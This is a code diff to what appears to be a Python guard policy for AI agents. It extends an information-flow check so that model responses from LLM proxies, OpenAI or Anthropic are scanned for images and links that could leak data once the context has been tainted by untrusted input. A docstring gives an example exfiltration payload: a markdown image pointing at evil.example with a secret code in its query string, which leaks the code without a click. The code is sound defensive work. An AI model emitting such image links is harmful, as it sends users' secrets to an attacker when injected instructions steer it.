@@ -147,7 +147,7 @@ def _shown(url: str) -> str:
         ),
     },
 )
-@listens_to(types=("tool_call", "response"))
+@listens_to(types=("tool_call", "response", "llm_response"))
 def information_flow(
     on_violation: str = "ask",
     require_taint: bool = True,
@@ -174,7 +174,7 @@ def information_flow(
         return None if grounded else value
 
     def policy(event: PolicyEvent) -> PolicyResponse | None:
-        if event["type"] == "response":
+        if event["type"] == "response" or event["type"] == "llm_response":
             return _answer(event, bad, verdict, require_taint)
         if event["type"] != "tool_call":
             return None
@@ -300,12 +300,15 @@ def _answer(
 ) -> PolicyResponse | None:
     """The agent's answer: an image it shows is fetched when the answer is rendered, so its link is a
     destination (``![](https://evil.example/p.png?c=<code>)`` leaks the code without a click)."""
-    data = event.get("data")
-    texts = [data] if isinstance(data, str) else _strings(data)
     ctx = event["context"]
     prov: Provenance = ctx.get("provenance") or EMPTY
     if require_taint and not prov.tainted and UNTRUSTED_LABEL not in (ctx.get("labels") or {}):
         return None
+    data = event.get("data")
+    if event["type"] == "llm_response":  # the model's answer as the LLM proxy (or a harness) posts it
+        texts = list(_model_texts(data))
+    else:
+        texts = [data] if isinstance(data, str) else _strings(data)
     problems: list[str] = []
     for text in texts:
         if "!" not in text and "src" not in text.lower() and "url(" not in text.lower():
@@ -318,6 +321,36 @@ def _answer(
     if not problems:
         return None
     return {"result": verdict, "reason": "answer: " + "; ".join(problems[:_MAX_REPORTED])}
+
+
+def _model_texts(data: object) -> Iterator[str]:
+    """The text of an ``llm_response``: ``text`` (the LLM proxy's), OpenAI's ``choices[].message.content``
+    (a string or text parts) and Anthropic's ``content`` text blocks; never tool calls or usage."""
+    if isinstance(data, str):
+        yield data
+        return
+    if not isinstance(data, Mapping):
+        return
+    if isinstance(data.get("text"), str):
+        yield data["text"]
+    yield from _content_texts(data.get("content"))
+    choices = data.get("choices")
+    for choice in choices if isinstance(choices, list) else ():
+        message = choice.get("message") or choice.get("delta") if isinstance(choice, Mapping) else None
+        if isinstance(message, Mapping):
+            yield from _content_texts(message.get("content"))
+
+
+def _content_texts(content: object) -> Iterator[str]:
+    """A message's content: a string, or parts (``{"type": "text", "text": …}``, ``output_text``) or strings."""
+    if isinstance(content, str):
+        yield content
+    elif isinstance(content, list):
+        for part in content:
+            if isinstance(part, str):
+                yield part
+            elif isinstance(part, Mapping) and isinstance(part.get("text"), str):
+                yield part["text"]
 
 
 _REFERENCE = re.compile(r"^\s*\[([^\]]+)\]:\s*<?([^\s>]+)", re.MULTILINE)
